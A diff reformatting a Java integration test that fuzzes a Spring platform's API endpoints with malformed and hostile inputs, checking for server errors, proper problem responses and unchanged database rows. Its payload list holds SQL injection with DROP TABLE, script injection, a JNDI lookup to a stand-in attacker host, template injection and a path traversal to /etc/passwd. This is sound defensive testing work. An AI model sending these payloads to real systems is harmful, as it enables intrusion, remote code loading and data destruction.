@@ -3,8 +3,6 @@ package io.controlplane.platform;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import com.fasterxml.jackson.databind.ObjectMapper;
-import java.util.Locale;
-import org.springframework.core.DefaultParameterNameDiscoverer;
 import io.controlplane.IntegrationTest;
 import io.controlplane.JourneyDriver;
 import io.controlplane.incident.IncidentService;
@@ -23,6 +21,7 @@ import java.util.Base64;
 import java.util.Collection;
 import java.util.LinkedHashMap;
 import java.util.List;
+import java.util.Locale;
 import java.util.Map;
 import java.util.TreeMap;
 import java.util.UUID;
@@ -33,6 +32,7 @@ import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.beans.factory.annotation.Qualifier;
 import org.springframework.boot.test.web.server.LocalServerPort;
+import org.springframework.core.DefaultParameterNameDiscoverer;
 import org.springframework.core.MethodParameter;
 import org.springframework.jdbc.core.JdbcTemplate;
 import org.springframework.web.bind.annotation.RequestBody;
@@ -54,22 +54,46 @@ class BadInputCorpusTest {
     private static final Pattern PATH_VARIABLE = Pattern.compile("\\{([^}:]+)(:[^}]*)?}");
     private static final String UNKNOWN = "no-such-" + UUID.randomUUID();
     /** Hostile values for path variables and request parameters. */
-    private static final List<String> HOSTILE = List.of(UNKNOWN, " ", "' OR '1'='1' --", "'; DROP TABLE missions; --",
-            "<script>alert(1)</script>", "${jndi:ldap://attacker.example/a}", "#{7*7}", "../../etc/passwd", "\u0000",
-            "NOT_A_STAGE", "Launch", "-1", "0", "99999999999999999999", "NaN", "1e400", "2024-13-45T25:61:00Z",
-            "true", "[]", "{\"$gt\": \"\"}", "\uFF21\uFF22\uD83D\uDE00", "x".repeat(3000));
+    private static final List<String> HOSTILE = List.of(
+            UNKNOWN,
+            " ",
+            "' OR '1'='1' --",
+            "'; DROP TABLE missions; --",
+            "<script>alert(1)</script>",
+            "${jndi:ldap://attacker.example/a}",
+            "#{7*7}",
+            "../../etc/passwd",
+            "\u0000",
+            "NOT_A_STAGE",
+            "Launch",
+            "-1",
+            "0",
+            "99999999999999999999",
+            "NaN",
+            "1e400",
+            "2024-13-45T25:61:00Z",
+            "true",
+            "[]",
+            "{\"$gt\": \"\"}",
+            "\uFF21\uFF22\uD83D\uDE00",
+            "x".repeat(3000));
     /** Engine tables that change on their own (metrics), not because of a request. */
-    private static final List<String> VOLATILE = List.of("ACT_RU_METER_LOG", "ACT_RU_TASK_METER_LOG", "ACT_GE_PROPERTY");
+    private static final List<String> VOLATILE =
+            List.of("ACT_RU_METER_LOG", "ACT_RU_TASK_METER_LOG", "ACT_GE_PROPERTY");
 
     @LocalServerPort
     int port;
+
     @Autowired
     @Qualifier("requestMappingHandlerMapping")
     RequestMappingHandlerMapping mappings;
+
     @Autowired
     JourneyDriver drive;
+
     @Autowired
     IncidentService incidents;
+
     @Autowired
     DataSource dataSource;
 
@@ -85,15 +109,17 @@ class BadInputCorpusTest {
         drive.confirmIntent(mission);
         String incident = incidents.open("oauth_drift", mission, "PREPARE", "low", "Corpus target incident", null);
         String backlogItem = String.valueOf(createBacklogItem());
-        Map<String, String> real = Map.of("/api/missions/", mission, "/api/incidents/", incident, "/api/backlog/",
-                backlogItem);
+        Map<String, String> real =
+                Map.of("/api/missions/", mission, "/api/incidents/", incident, "/api/backlog/", backlogItem);
         Map<String, String> valid = Map.of(
-                "POST /api/missions/{id}/scope-drift", "{\"toolkit\":\"hubspot\",\"scopes\":[\"crm.objects.contacts.write\"]}",
+                "POST /api/missions/{id}/scope-drift",
+                        "{\"toolkit\":\"hubspot\",\"scopes\":[\"crm.objects.contacts.write\"]}",
                 "PATCH /api/backlog/{id:\\d+}", "{\"status\":\"done\"}");
 
         Map<String, Long> before = rowCounts();
         int endpoints = 0;
-        for (Map.Entry<RequestMappingInfo, HandlerMethod> e : mappings.getHandlerMethods().entrySet()) {
+        for (Map.Entry<RequestMappingInfo, HandlerMethod> e :
+                mappings.getHandlerMethods().entrySet()) {
             for (String pattern : e.getKey().getPathPatternsCondition().getPatternValues()) {
                 if (!pattern.startsWith("/api/")) {
                     continue;
@@ -108,8 +134,14 @@ class BadInputCorpusTest {
         }
         Map<String, Long> after = rowCounts();
 
-        System.out.printf("Bad-input corpus: %d endpoints, %d requests sent, %d 5xx, statuses %s%n", endpoints, sent,
-                histogram.entrySet().stream().filter(s -> s.getKey() >= 500).mapToInt(Map.Entry::getValue).sum(),
+        System.out.printf(
+                "Bad-input corpus: %d endpoints, %d requests sent, %d 5xx, statuses %s%n",
+                endpoints,
+                sent,
+                histogram.entrySet().stream()
+                        .filter(s -> s.getKey() >= 500)
+                        .mapToInt(Map.Entry::getValue)
+                        .sum(),
                 histogram);
         assertThat(failures).isEmpty();
         assertThat(histogram.keySet()).allMatch(s -> s < 500);
@@ -117,8 +149,14 @@ class BadInputCorpusTest {
         assertThat(sent).isGreaterThan(500);
     }
 
-    private void corpus(String method, String pattern, String user, HandlerMethod handler, Map<String, String> real,
-                        String validBody) throws Exception {
+    private void corpus(
+            String method,
+            String pattern,
+            String user,
+            HandlerMethod handler,
+            Map<String, String> real,
+            String validBody)
+            throws Exception {
         List<String> variables = new ArrayList<>();
         Matcher m = PATH_VARIABLE.matcher(pattern);
         while (m.find()) {
@@ -130,7 +168,11 @@ class BadInputCorpusTest {
         // hostile path variables, one at a time, the others real
         for (String variable : variables) {
             for (String value : HOSTILE) {
-                send(method, path(pattern, real, variable, value), user, baseBody == null ? null : "application/json",
+                send(
+                        method,
+                        path(pattern, real, variable, value),
+                        user,
+                        baseBody == null ? null : "application/json",
                         baseBody);
             }
         }
@@ -144,7 +186,11 @@ class BadInputCorpusTest {
             }
             String name = !rp.name().isEmpty() ? rp.name() : !rp.value().isEmpty() ? rp.value() : p.getParameterName();
             for (String value : HOSTILE) {
-                send(method, path + "?" + name + "=" + encode(value), user, baseBody == null ? null : "application/json",
+                send(
+                        method,
+                        path + "?" + name + "=" + encode(value),
+                        user,
+                        baseBody == null ? null : "application/json",
                         baseBody);
             }
             send(method, path + "?" + name + "=1&" + name + "=2", user, null, baseBody);
@@ -154,8 +200,19 @@ class BadInputCorpusTest {
             return;
         }
         // bodies
-        List<String> bodies = new ArrayList<>(List.of("", "null", "[]", "{}", "\"text\"", "42", "{\"title\": ",
-                "{\"unknownField\": 1}", "{\"a\":1,}", "\uFEFF{}", deep("[", "]", 5000), deep("{\"a\":", "}", 3000) ,
+        List<String> bodies = new ArrayList<>(List.of(
+                "",
+                "null",
+                "[]",
+                "{}",
+                "\"text\"",
+                "42",
+                "{\"title\": ",
+                "{\"unknownField\": 1}",
+                "{\"a\":1,}",
+                "\uFEFF{}",
+                deep("[", "]", 5000),
+                deep("{\"a\":", "}", 3000),
                 "{\"title\":\"" + "x".repeat(200_000) + "\"}"));
         Class<?> bodyType = null;
         for (MethodParameter p : handler.getMethodParameters()) {
@@ -172,8 +229,15 @@ class BadInputCorpusTest {
                 }
                 bodies.add("{\"" + c.getName() + "\":\"" + "y".repeat(100_000) + "\"}");
                 bodies.add("{\"" + c.getName() + "\":null}");
-                allSql.append(allSql.length() > 1 ? "," : "").append('"').append(c.getName()).append("\":\"' OR 1=1; DROP TABLE missions; --\"");
-                allScript.append(allScript.length() > 1 ? "," : "").append('"').append(c.getName()).append("\":\"<script>alert(1)</script>\"");
+                allSql.append(allSql.length() > 1 ? "," : "")
+                        .append('"')
+                        .append(c.getName())
+                        .append("\":\"' OR 1=1; DROP TABLE missions; --\"");
+                allScript
+                        .append(allScript.length() > 1 ? "," : "")
+                        .append('"')
+                        .append(c.getName())
+                        .append("\":\"<script>alert(1)</script>\"");
             }
             bodies.add(allSql.append('}').toString());
             bodies.add(allScript.append('}').toString());
@@ -205,7 +269,13 @@ class BadInputCorpusTest {
             return List.of("\"maybe\"", "2", "[]");
         }
         if (Collection.class.isAssignableFrom(type)) {
-            return List.of("\"not-a-list\"", "{\"a\":1}", "[[[[1]]]]", "[null]", "[\"a\\u0000b\"]", "[" + "1,".repeat(10_000) + "1]");
+            return List.of(
+                    "\"not-a-list\"",
+                    "{\"a\":1}",
+                    "[[[[1]]]]",
+                    "[null]",
+                    "[\"a\\u0000b\"]",
+                    "[" + "1,".repeat(10_000) + "1]");
         }
         if (Map.class.isAssignableFrom(type)) {
             return List.of("[1,2]", "\"not-an-object\"", "{\"" + "k".repeat(50_000) + "\":1}");
@@ -229,8 +299,11 @@ class BadInputCorpusTest {
                 value = "DEFINE";
             } else {
                 String prefix = pattern.substring(0, m.start());
-                value = real.entrySet().stream().filter(r -> prefix.equals(r.getKey())).map(Map.Entry::getValue)
-                        .findFirst().orElse("1");
+                value = real.entrySet().stream()
+                        .filter(r -> prefix.equals(r.getKey()))
+                        .map(Map.Entry::getValue)
+                        .findFirst()
+                        .orElse("1");
             }
             m.appendReplacement(out, Matcher.quoteReplacement(value));
         }
@@ -244,13 +317,18 @@ class BadInputCorpusTest {
 
     /** A user in a group the endpoint admits (the mission owner first, for their own mission), or none. */
     private static String userFor(String key) {
-        ApiAccess.Rule rule = ApiAccess.RULES.stream().filter(r -> r.key().equals(key)).findFirst().orElseThrow(() ->
-                new AssertionError(key + " has no rule in ApiAccess"));
+        ApiAccess.Rule rule = ApiAccess.RULES.stream()
+                .filter(r -> r.key().equals(key))
+                .findFirst()
+                .orElseThrow(() -> new AssertionError(key + " has no rule in ApiAccess"));
         if (rule.open()) {
             return null;
         }
-        return ApiAccessMatrixTest.USER_OF_GROUP.entrySet().stream().filter(g -> rule.groups().contains(g.getKey()))
-                .map(Map.Entry::getValue).findFirst().orElseThrow();
+        return ApiAccessMatrixTest.USER_OF_GROUP.entrySet().stream()
+                .filter(g -> rule.groups().contains(g.getKey()))
+                .map(Map.Entry::getValue)
+                .findFirst()
+                .orElseThrow();
     }
 
     /**
@@ -259,20 +337,25 @@ class BadInputCorpusTest {
      * batch (no {@code batchId}). That is not an accepted hostile write: the row counts prove nothing changed.
      */
     private static boolean nothingToDo(String path, HttpResponse<String> r) {
-        return path.startsWith("/api/admin/legacy/migrations") && r.statusCode() == 200
+        return path.startsWith("/api/admin/legacy/migrations")
+                && r.statusCode() == 200
                 && !r.body().contains("\"batchId\"");
     }
 
     private void send(String method, String path, String user, String contentType, String body) throws Exception {
         HttpRequest.Builder b = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
-                .method(method, body == null ? HttpRequest.BodyPublishers.noBody()
-                        : HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8));
+                .method(
+                        method,
+                        body == null
+                                ? HttpRequest.BodyPublishers.noBody()
+                                : HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8));
         if (contentType != null) {
             b.header("Content-Type", contentType);
         }
         if (user != null) {
-            b.header("Authorization", "Basic " + Base64.getEncoder().encodeToString((user + ":demo")
-                    .getBytes(StandardCharsets.UTF_8)));
+            b.header(
+                    "Authorization",
+                    "Basic " + Base64.getEncoder().encodeToString((user + ":demo").getBytes(StandardCharsets.UTF_8)));
         }
         HttpResponse<String> r = client.send(b.build(), HttpResponse.BodyHandlers.ofString());
         sent++;
@@ -282,8 +365,8 @@ class BadInputCorpusTest {
             failures.add(what + ": a hostile write was accepted with " + r.statusCode());
         } else if (r.statusCode() >= 500) {
             failures.add(what + ": " + r.statusCode() + " " + abbreviate(r.body()));
-        } else if (r.statusCode() >= 300 && !r.headers().firstValue("Content-Type").orElse("")
-                .startsWith("application/problem+json")) {
+        } else if (r.statusCode() >= 300
+                && !r.headers().firstValue("Content-Type").orElse("").startsWith("application/problem+json")) {
             failures.add(what + ": " + r.statusCode() + " without problem details ("
                     + r.headers().firstValue("Content-Type").orElse("no content type") + ") " + abbreviate(r.body()));
         }
@@ -296,10 +379,17 @@ class BadInputCorpusTest {
     private long createBacklogItem() throws Exception {
         String body = "{\"title\":\"Corpus target item\",\"stage\":\"define\",\"category\":\"intake_prompts\","
                 + "\"impact\":2,\"effort\":1,\"ownerRole\":\"mission-owner\"}";
-        HttpResponse<String> r = client.send(HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/api/backlog"))
-                .header("Content-Type", "application/json").header("Authorization", "Basic " + Base64.getEncoder()
-                        .encodeToString("mo:demo".getBytes(StandardCharsets.UTF_8)))
-                .POST(HttpRequest.BodyPublishers.ofString(body)).build(), HttpResponse.BodyHandlers.ofString());
+        HttpResponse<String> r = client.send(
+                HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/api/backlog"))
+                        .header("Content-Type", "application/json")
+                        .header(
+                                "Authorization",
+                                "Basic "
+                                        + Base64.getEncoder()
+                                                .encodeToString("mo:demo".getBytes(StandardCharsets.UTF_8)))
+                        .POST(HttpRequest.BodyPublishers.ofString(body))
+                        .build(),
+                HttpResponse.BodyHandlers.ofString());
         assertThat(r.statusCode()).isEqualTo(201);
         return new ObjectMapper().readTree(r.body()).path("id").asLong();
     }
